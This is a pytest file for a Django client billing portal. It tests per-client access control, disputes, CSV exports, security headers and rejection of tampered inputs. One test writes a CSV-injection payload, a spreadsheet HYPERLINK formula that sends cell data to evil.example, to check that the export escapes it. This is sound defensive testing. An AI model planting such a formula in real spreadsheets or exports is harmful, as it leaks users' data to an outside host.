"""The portal's pages through Django's test client: what a client user gets, and what not."""

import csv
import io
import re
from dataclasses import dataclass
from datetime import date

import pytest
from django.test import Client as HttpClient
from django.urls import reverse

from tally.accounts.models import Role, User
from tally.actions.disputes import resolve_dispute
from tally.audit.actors import SystemActor
from tally.clients.models import Client
from tally.disputes.models import Dispute, DisputeMessage
from tally.disputes.services import open_dispute
from tally.internal_notes.services import add_internal_note
from tally.invoicing.models import Invoice
from tally.invoicing.status import DerivedStatus
from tests.factories import issued_invoice, make_client, make_user, pay, voided_invoice

pytestmark = pytest.mark.django_db


@pytest.fixture
def acme_browser(acme):
    """Acme's AP clerk, signed in."""
    browser = HttpClient()
    browser.force_login(make_user(role=Role.CLIENT_USER, client=acme, email="ap@acme.example"))
    return browser


@dataclass
class Setup:
    """Acme's clerk signed in (`browser`), an invoice of Acme's and one of Globex's."""

    acme: Client
    operator: User
    user: User
    browser: HttpClient
    ours: Invoice
    theirs: Invoice


@pytest.fixture
def setup(acme, globex, operator) -> Setup:
    ours = issued_invoice(acme, picks=12, labels=3, issue_date=date(2026, 11, 1))
    theirs = issued_invoice(globex, picks=7, issue_date=date(2026, 11, 1))
    user = make_user(role=Role.CLIENT_USER, client=acme, email="ap@acme.example")
    browser = HttpClient()
    browser.force_login(user)
    return Setup(acme=acme, operator=operator, user=user, browser=browser, ours=ours, theirs=theirs)


def test_the_billing_page_shows_cards_and_the_clients_invoices_only(setup):
    response = setup.browser.get("/")
    html = response.content.decode()
    assert response.status_code == 200
    assert setup.ours.display_number in html and setup.theirs.display_number not in html
    assert "Total outstanding" in html and "$4.34" in html  # 12 × 0.35 + 3 × 0.045 = 4.335 → 4.34
    assert 'aria-sort="descending"' in html
    assert response.headers["Cache-Control"] == "private, no-store"


def test_every_url_of_another_clients_invoice_is_a_404(setup):
    theirs = setup.theirs.display_number
    line = setup.theirs.lines.first().pk
    urls = [
        reverse("portal:invoice", args=[theirs]),
        reverse("portal:invoice_pdf", args=[theirs]),
        reverse("portal:line_events", args=[theirs, line]),
        reverse("portal:line_events_csv", args=[theirs, line]),
        reverse("portal:line_events", args=[setup.ours.display_number, line]),
    ]
    for url in urls:
        assert setup.browser.get(url).status_code == 404, url
    response = setup.browser.post(reverse("portal:dispute", args=[theirs]), {"reason": "not mine"})
    assert response.status_code == 404
    assert not Dispute.objects.exists()


def test_a_draft_voided_before_it_was_issued_is_nowhere_in_the_portal(setup):
    draft = voided_invoice(
        setup.acme,
        issued=False,
        picks=3,
        period=(date(2026, 12, 1), date(2026, 12, 31)),
        reason="wrong period",
    )
    browser = setup.browser
    for query in ("", "?status=void", "?sort=issue_date&direction=asc"):
        page = browser.get("/" + query)
        assert page.status_code == 200, query
        assert "INV-000000" not in page.content.decode() and "None" not in page.content.decode()
    download = b"".join(browser.get("/invoices.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(download)))
    assert [row[0] for row in rows[1:]] == [setup.ours.display_number]
    line = draft.lines.first().pk
    for url in (
        reverse("portal:line_events", args=[setup.ours.display_number, line]),
        reverse("portal:line_events", args=["INV-000000", line]),
        reverse("portal:invoice", args=["INV-000000"]),
    ):
        assert browser.get(url).status_code == 404, url


def test_a_line_is_found_only_under_its_own_invoice(setup):
    """The client's own line, addressed through another of their invoices, is a 404 too."""
    other = issued_invoice(setup.acme, picks=2, issue_date=date(2026, 11, 8))
    line = setup.ours.lines.first().pk
    browser = setup.browser
    assert (
        browser.get(
            reverse("portal:line_events", args=[setup.ours.display_number, line])
        ).status_code
        == 200
    )
    for name in ("portal:line_events", "portal:line_events_csv"):
        assert browser.get(reverse(name, args=[other.display_number, line])).status_code == 404, (
            name
        )


def test_without_javascript_the_open_parameter_expands_a_row(setup):
    html = setup.browser.get("/", {"open": setup.ours.display_number}).content.decode()
    assert 'aria-expanded="true"' in html and "Line items" in html and "Balance due" in html


def test_htmx_gets_the_table_alone_and_the_drilldown_alone(setup):
    table = setup.browser.get(
        "/", {"status": "open"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="invoice-table"
    )
    assert "<table" in table.content.decode() and "Total outstanding" not in table.content.decode()
    assert "HX-Request" in table.headers["Vary"]
    detail = setup.browser.get(
        reverse("portal:invoice", args=[setup.ours.display_number]), HTTP_HX_REQUEST="true"
    )
    body = detail.content.decode()
    assert "Line items" in body and "<html" not in body


def test_filters_with_bad_input_show_the_error_and_keep_the_rest(setup):
    html = setup.browser.get("/", {"issued_from": "not-a-date", "status": "open"}).content.decode()
    assert "Enter a valid date" in html
    assert setup.ours.display_number in html


def test_an_amount_filter_with_too_many_decimals_says_so_in_plain_words(setup):
    html = setup.browser.get("/", {"amount_min": "1.234"}).content.decode()
    assert "Enter the amount in USD with at most 2 decimals, like 120.50." in html
    assert "Decimal(" not in html
    assert setup.ours.display_number in html  # the filter is ignored, the table still shown


def test_a_client_opens_a_dispute_and_posts_a_message_but_never_sees_internal_notes(setup):
    ours = setup.ours.display_number
    line = setup.ours.lines.get(kind="label")
    response = setup.browser.post(
        reverse("portal:dispute", args=[ours]),
        {"reason": "Labels double-counted", "amount": "0.14", "lines": [line.pk]},
    )
    assert response.status_code == 302
    dispute = Dispute.objects.get()
    assert (dispute.amount_minor, list(dispute.lines.values_list("line_id", flat=True))) == (
        14,
        [line.pk],
    )
    add_internal_note(
        actor=setup.operator, dispute_id=dispute.pk, body="INTERNAL: client is right, credit it"
    )
    setup.browser.post(reverse("portal:message", args=[ours, dispute.pk]), {"body": "Any news?"})
    assert DisputeMessage.objects.filter(dispute=dispute, author_side="client").count() == 2
    page = setup.browser.get(reverse("portal:invoice", args=[ours])).content.decode()
    assert "Any news?" in page and "Labels double-counted" in page
    assert "INTERNAL" not in page
    assert "Paused while disputed" in page


def test_an_invalid_dispute_shows_errors_and_writes_nothing(setup):
    ours = setup.ours.display_number
    response = setup.browser.post(
        reverse("portal:dispute", args=[ours]), {"reason": "", "amount": "999999"}
    )
    assert response.status_code == 422
    assert "Tell us what is wrong with this invoice." in response.content.decode()
    assert not Dispute.objects.exists()
    response = setup.browser.post(
        reverse("portal:dispute", args=[ours]), {"reason": "too much", "amount": "999"}
    )
    assert response.status_code == 422 and not Dispute.objects.exists()


def test_state_changes_need_post_and_pages_need_get(setup):
    ours = setup.ours.display_number
    assert setup.browser.get(reverse("portal:dispute", args=[ours])).status_code == 405
    assert setup.browser.post(reverse("portal:invoice", args=[ours])).status_code == 405


def test_csv_of_invoices_and_of_a_lines_events(setup):
    rows = list(
        csv.reader(
            io.StringIO(b"".join(setup.browser.get("/invoices.csv").streaming_content).decode())
        )
    )
    assert rows[0][:3] == ["Invoice", "Issue date", "Due date"]
    assert [r[0] for r in rows[1:]] == [setup.ours.display_number]
    line = setup.ours.lines.get(kind="pick")
    response = setup.browser.get(
        reverse("portal:line_events_csv", args=[setup.ours.display_number, line.pk])
    )
    events = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert events[0] == ["When (UTC)", "Kind", "Reference", "Quantity"]
    assert len(events) == 13 and {r[1] for r in events[1:]} == {"Pick"}


def test_the_invoices_csv_of_an_aging_bucket_lists_what_the_page_lists(acme, acme_browser):
    old = issued_invoice(acme, picks=10, issue_date=date(2026, 8, 1))  # due Aug 31
    recent = issued_invoice(
        acme, picks=20, period=(date(2026, 11, 1), date(2026, 11, 30)), issue_date=date(2026, 12, 1)
    )
    query = {"bucket": "61_90", "as_of": "2026-11-25"}  # Aug 31 is 86 days before
    html = acme_browser.get("/", query).content.decode()
    assert old.display_number in html and recent.display_number not in html
    download = b"".join(acme_browser.get(reverse("portal:invoices_csv"), query).streaming_content)
    rows = list(csv.reader(io.StringIO(download.decode())))
    assert [row[0] for row in rows[1:]] == [old.display_number]


def test_aging_page_and_csv(setup):
    html = setup.browser.get(reverse("portal:aging"), {"as_of": "2026-11-25"}).content.decode()
    assert "Current" in html and "$4.34" in html  # due Dec 1: not yet due
    response = setup.browser.get(reverse("portal:aging_csv"), {"as_of": "2026-11-25"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["2026-11-25", "Current", "1", "4.34", "USD"]
    assert rows[-1][1:3] == ["Total", "1"]


def test_operators_and_strangers_do_not_get_the_portal(setup):
    anonymous = HttpClient()
    assert anonymous.get("/").status_code == 302
    assert anonymous.get(reverse("portal:aging"))["Location"].startswith("/accounts/login/")
    ops = HttpClient()
    ops.force_login(setup.operator)
    assert ops.get("/")["Location"] == "/console/"
    assert ops.get(reverse("portal:aging")).status_code == 404


def test_security_headers_are_set(setup):
    response = setup.browser.get("/")
    assert "default-src 'self'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_dispute_opened_elsewhere_shows_up_with_its_conversation(setup):
    open_dispute(
        actor=setup.user,
        client=setup.acme,
        invoice_id=setup.ours.pk,
        reason="Opened by API",
    )
    html = setup.browser.get("/", {"status": "disputed"}).content.decode()
    assert setup.ours.display_number in html


def test_each_client_sees_its_own_header_and_an_edit_shows_once_the_cache_lapses(
    setup, globex, monkeypatch
):
    from tally.portal import access

    clock = [1000.0]
    monkeypatch.setattr(access.time, "monotonic", lambda: clock[0])
    theirs = make_user(role=Role.CLIENT_USER, client=globex, email="ap@globex.example")
    other = HttpClient()
    other.force_login(theirs)
    assert f"<h1>{setup.acme.name} " in setup.browser.get("/").content.decode()
    assert f"<h1>{globex.name} " in other.get("/").content.decode()  # cached apart
    type(setup.acme).objects.filter(pk=setup.acme.pk).update(name="Acme Renamed Ltd")
    assert f"<h1>{setup.acme.name} " in setup.browser.get("/").content.decode()
    clock[0] += access.HEADER_SECONDS + 1
    assert "<h1>Acme Renamed Ltd " in setup.browser.get("/").content.decode()


def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme, acme_browser):
    from tally.operations.services import ingest_events
    from tests.factories import event_rows

    rows = event_rows("pick", 3, day=date(2026, 10, 3))
    rows[0]["reference"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows[1]["reference"] = "-2+3"
    ingest_events(actor=SystemActor.TESTS, client=acme, rows=rows)
    invoice = issued_invoice(acme, picks=0)  # October's events, issued 1 November
    response = acme_browser.get(
        reverse("portal:line_events_csv", args=[invoice.display_number, invoice.lines.get().pk])
    )
    events = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r[2] for r in events[1:]) == [
        "'-2+3",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        rows[2]["reference"],
    ]


@pytest.mark.parametrize(
    "query",
    [
        "amount_min=1e999999",  # would take seconds to turn into minor units, then overflow
        "amount_max=99999999999999999999",
        "amount_min=-5",
    ],
)
def test_an_absurd_amount_filter_is_a_field_error_not_a_hang(setup, query):
    response = setup.browser.get(f"/?{query}")
    html = response.content.decode()
    assert response.status_code == 200
    assert 'aria-invalid="true"' in html or "errorlist" in html
    assert setup.ours.display_number in html  # the table still shows, unfiltered


@pytest.mark.parametrize(
    "position",
    [
        '["after", 1e999, 1]',
        '["after", 5, 1e999]',
        '["after", 5, 99999999999999999999999]',
        '["before", "x", 1]',
    ],
)
def test_a_tampered_table_cursor_starts_from_the_top(setup, position):
    import base64

    cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
    response = setup.browser.get(f"/?sort=amount&cursor={cursor}")
    assert response.status_code == 200
    assert setup.ours.display_number in response.content.decode()


@pytest.mark.parametrize(
    "position",
    [
        '["after", "0001-01-01T00:00:00+14:00", 1]',  # overflows on the way to UTC
        '["after", "2026-10-03T12:00:00+00:00", 1e999]',
        '["after", "2026-10-03T12:00:00", 1]',
    ],
)
def test_a_tampered_events_cursor_starts_from_the_first_event(setup, position):
    import base64

    line = setup.ours.lines.get(kind="pick")
    cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
    url = reverse("portal:line_events", args=[setup.ours.display_number, line.pk])
    response = setup.browser.get(f"{url}?cursor={cursor}")
    assert response.status_code == 200
    assert response.content.decode().count("REF-") == 12


def test_opening_a_missing_or_foreign_invoice_keeps_the_page_and_says_so(setup):
    for number_asked in ("INV-999999", setup.theirs.display_number):
        response = setup.browser.get(f"/?open={number_asked}")
        html = response.content.decode()
        assert response.status_code == 200
        assert f"There is no invoice {number_asked} to open." in html
        assert setup.ours.display_number in html  # the billing page itself is all there


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("1.234", "Enter the amount in USD with at most 2 decimals, like 120.50."),
        ("0", "Enter an amount above zero."),
        ("-5", "Enter an amount above zero."),
        ("lots", "Enter the amount as a number, like 120.50."),
    ],
)
def test_a_dispute_amount_that_will_not_do_says_so_in_plain_words(setup, amount, message):
    ours = setup.ours.display_number
    response = setup.browser.post(
        reverse("portal:dispute", args=[ours]), {"reason": "Too many picks", "amount": amount}
    )
    assert response.status_code == 422
    assert message in response.content.decode()
    assert not Dispute.objects.exists()


def test_a_filter_range_given_backwards_names_both_ends(setup):
    html = setup.browser.get("/?issued_from=2026-11-02&issued_to=2026-11-01").content.decode()
    assert "“Issued to” must not be before “Issued from”." in html


def test_the_table_says_how_late_an_unpaid_invoice_is(acme, acme_browser):
    from django.utils import timezone

    late = issued_invoice(
        acme, picks=3, period=(date(2026, 7, 1), date(2026, 7, 31)), issue_date=date(2026, 8, 1)
    )
    html = acme_browser.get("/").content.decode()
    days = (timezone.localdate() - late.due_date).days
    assert f'<span class="late">{days} days late</span>' in html


def test_the_invoices_headings_follow_the_page_they_sit_in(setup):
    ours = setup.ours.display_number
    page = setup.browser.get(reverse("portal:invoice", args=[ours])).content.decode()
    # Its own page: the invoice is the h1 (said once), its sections h2 — no level skipped.
    assert f"<h1>Invoice {ours} <span" in page and "<h2>Line items</h2>" in page
    billing = setup.browser.get(f"/?open={ours}").content.decode()
    assert f"<h3>{ours} <span" in billing and "<h4>Line items</h4>" in billing  # under Invoices
    drilldown = setup.browser.get(
        reverse("portal:invoice", args=[ours]),
        HTTP_HX_REQUEST="true",
        HTTP_HX_CURRENT_URL="http://testserver/?status=open",
    ).content.decode()
    assert f"<h3>{ours} <span" in drilldown


def test_a_filtered_table_says_how_many_invoices_match_and_what_they_leave_unpaid(
    acme, acme_browser
):
    paid_later = issued_invoice(
        acme, picks=3, period=(date(2026, 7, 1), date(2026, 7, 31)), issue_date=date(2026, 8, 1)
    )
    recent = issued_invoice(acme, picks=10, issue_date=date(2026, 11, 1))
    assert "table-summary" not in acme_browser.get("/").content.decode()  # the cards say it all
    html = acme_browser.get("/?issued_from=2026-01-01").content.decode()
    both = paid_later.balance_minor + recent.balance_minor
    assert f"2 invoices match · ${both / 100:,.2f} unpaid" in html
    one = acme_browser.get("/?issued_from=2026-10-01").content.decode()
    assert f"1 invoice matches · ${recent.balance_minor / 100:,.2f} unpaid" in one


def test_an_unpaid_invoice_says_how_to_pay_in_its_currency_and_a_paid_one_does_not(
    acme, acme_browser, settings
):
    settings.TALLY_PAYMENT_INSTRUCTIONS_BY_CURRENCY = {
        "USD": "ACH: Harbor 3PL, routing 021000021",
        "EUR": "SEPA: IBAN NL91 ABNA 0417 1643 00",
    }
    unpaid = issued_invoice(acme, picks=4)
    paid = issued_invoice(acme, picks=2, period=(date(2026, 9, 1), date(2026, 9, 30)))
    pay(acme, paid.total_minor, invoice=paid, received_on=date(2026, 11, 10))

    def drilldown(invoice):
        url = reverse("portal:invoice", args=[invoice.display_number])
        return acme_browser.get(url, HTTP_HX_REQUEST="true").content.decode()

    html = drilldown(unpaid)
    assert "How to pay" in html and "ACH: Harbor 3PL, routing 021000021" in html
    assert f"Please quote {unpaid.display_number} with your payment." in html
    assert "IBAN" not in html
    assert "How to pay" not in drilldown(paid)

    berlin = make_client("berlin", currency="EUR")
    euro = issued_invoice(berlin, picks=4)
    berlin_browser = HttpClient()
    berlin_browser.force_login(make_user(role=Role.CLIENT_USER, client=berlin))
    url = reverse("portal:invoice", args=[euro.display_number])
    html = berlin_browser.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "SEPA: IBAN NL91 ABNA 0417 1643 00" in html and "routing" not in html


@pytest.mark.parametrize(
    "spelled",
    ["INV-000002%0A", "INV-%D9%A0%D9%A0%D9%A0%D9%A0%D9%A0%D9%A2", "INV-2%0A", "inv-000002"],
)
def test_an_invoice_number_is_inv_and_ascii_digits_only(setup, spelled):
    """A trailing newline or another script's digits used to open the invoice (and make its
    PDF's header malformed, or a 500)."""
    ours = f"INV-{setup.ours.number:06d}"
    assert setup.browser.get(reverse("portal:invoice_pdf", args=[ours])).status_code == 200
    for tail in ("/", "/invoice.pdf"):
        response = setup.browser.get(f"/invoices/{spelled}{tail}")
        assert response.status_code == 404, (spelled, tail)


def test_another_spelling_of_ones_own_number_redirects_to_the_printed_one(setup):
    printed = setup.ours.display_number
    short = f"INV-{setup.ours.number}"
    assert short != printed
    response = setup.browser.get(f"/invoices/{short}/invoice.pdf")
    assert response.status_code == 302
    assert response.headers["Location"] == f"/invoices/{printed}/invoice.pdf"
    response = setup.browser.get(f"/invoices/{short}/?open=1")
    assert response.headers["Location"] == f"/invoices/{printed}/?open=1"
    pdf = setup.browser.get(response.headers["Location"].replace("?open=1", "invoice.pdf"))
    assert pdf.headers["Content-Disposition"] == f'attachment; filename="{printed}.pdf"'
    # Another client's number is a 404 however it is spelled, and a post is not redirected.
    assert setup.browser.get(f"/invoices/INV-{setup.theirs.number}/").status_code == 404
    posted = setup.browser.post(f"/invoices/{short}/dispute/", {"reason": "x"})
    assert posted.status_code == 404 and not Dispute.objects.exists()


@pytest.mark.parametrize("spelled", ["INV-2", "INV-abc", "INV-2\n", "2"])
def test_the_billing_page_opens_a_row_by_any_spelling_of_its_number_or_says_none(setup, spelled):
    opened = setup.browser.get("/", {"open": spelled.replace("2", str(setup.ours.number))})
    html = opened.content.decode()
    assert opened.status_code == 200
    if spelled == "INV-2":
        assert 'aria-expanded="true"' in html and "Line items" in html and "to open" not in html
    else:
        assert "There is no invoice" in html


@pytest.mark.parametrize(
    ("resolution", "reads"),
    [("upheld", "Resolved: Charge confirmed"), ("withdrawn", "Resolved: Withdrawn")],
)
def test_a_resolved_dispute_says_who_won_in_the_clients_words(setup, resolution, reads):
    """ "Resolved: Upheld" read to clients as if they had won."""
    dispute = open_dispute(
        actor=setup.user, client=setup.acme, invoice_id=setup.ours.pk, reason="Too many picks"
    )
    resolve_dispute(
        actor=setup.operator,
        client=setup.acme,
        dispute_id=dispute.pk,
        resolution=resolution,
        summary="We checked the scans.",
    )
    html = setup.browser.get(reverse("portal:invoice", args=[setup.ours.display_number])).content
    assert reads in html.decode() and "Upheld" not in html.decode()


def test_a_foreign_or_wrong_invoice_url_gets_the_portals_layout_and_a_way_back(setup):
    """It was Django's bare "Not Found"."""
    for url in (
        reverse("portal:invoice", args=[setup.theirs.display_number]),
        "/invoices/INV-999999/",
        "/no/such/page/",
    ):
        response = setup.browser.get(url)
        html = response.content.decode()
        assert response.status_code == 404, url
        assert "There is nothing here" in html and 'href="/">Back to your invoices' in html
        assert "Sign out" in html and setup.theirs.display_number not in html


def test_the_invoice_page_says_its_number_once_and_does_not_link_to_itself(setup):
    number = setup.ours.display_number
    page = setup.browser.get(reverse("portal:invoice", args=[number])).content.decode()
    assert page.count("<h1") == 1 and f"<h1>Invoice {number} <span" in page
    assert "Permanent link" not in page and "<h2>Line items</h2>" in page
    drilldown = setup.browser.get("/", {"open": number}).content.decode()
    assert f"<h3>{number} <span" in drilldown and "Permanent link" in drilldown


def test_a_message_sent_with_htmx_swaps_the_row_and_cards_only_on_the_billing_page(setup):
    ours = setup.ours.display_number
    dispute = open_dispute(
        actor=setup.user, client=setup.acme, invoice_id=setup.ours.pk, reason="Too many picks"
    )
    url = reverse("portal:message", args=[ours, dispute.pk])
    billing = setup.browser.post(
        url,
        {"body": "From the table"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_CURRENT_URL="http://testserver/?status=disputed",
    ).content.decode()
    assert f'<span id="status-{ours}" class="status status-disputed" hx-swap-oob="true">' in billing
    assert '<section id="cards"' in billing
    # Drawn again, the cards keep the mark of the one the table is filtered by.
    assert 'data-card="disputed" aria-current="true"' in billing
    assert billing.count("aria-current") == 1
    # The invoice's own page has no table row and no cards: nothing out-of-band to miss.
    own_page = setup.browser.post(
        url,
        {"body": "From the invoice page"},
        HTTP_HX_REQUEST="true",
        HTTP_HX_CURRENT_URL=f"http://testserver/invoices/{ours}/",
    ).content.decode()
    assert "From the invoice page" in own_page
    assert "hx-swap-oob" not in own_page


PRESSING_FIRST = ["Overdue", "Disputed", "Partially paid", "Open", "Paid", "Void"]


def _statuses_in_order(shown: list[str]) -> list[str]:
    """The statuses a list shows, each once, in the order they come (value or label)."""
    labels = {s.value: str(s.label) for s in DerivedStatus} | {
        str(s.label): str(s.label) for s in DerivedStatus
    }
    return list(dict.fromkeys(labels[s] for s in shown))


def test_a_sort_by_status_lists_the_most_pressing_first_on_screen_and_in_the_csv(
    acme_browser, every_status
):
    page = acme_browser.get("/").content.decode()
    # The column's first click asks for descending: the most pressing first.
    assert 'href="?sort=status&amp;dir=desc"' in page
    html = acme_browser.get("/?sort=status&dir=desc").content.decode()
    shown = re.findall(r'<span id="status-INV-\d+" class="status status-\w+">([^<]+)</span>', html)
    assert len(shown) == 9
    assert _statuses_in_order(shown) == PRESSING_FIRST
    csv_rows = list(
        csv.reader(
            io.StringIO(
                b"".join(
                    acme_browser.get("/invoices.csv?sort=status&dir=desc").streaming_content
                ).decode()
            )
        )
    )
    status_column = [h.lower() for h in csv_rows[0]].index("status")
    assert _statuses_in_order([r[status_column] for r in csv_rows[1:]]) == PRESSING_FIRST
    html = acme_browser.get("/?sort=status&dir=asc").content.decode()
    shown = re.findall(r'<span id="status-INV-\d+" class="status status-\w+">([^<]+)</span>', html)
    assert _statuses_in_order(shown) == PRESSING_FIRST[::-1]
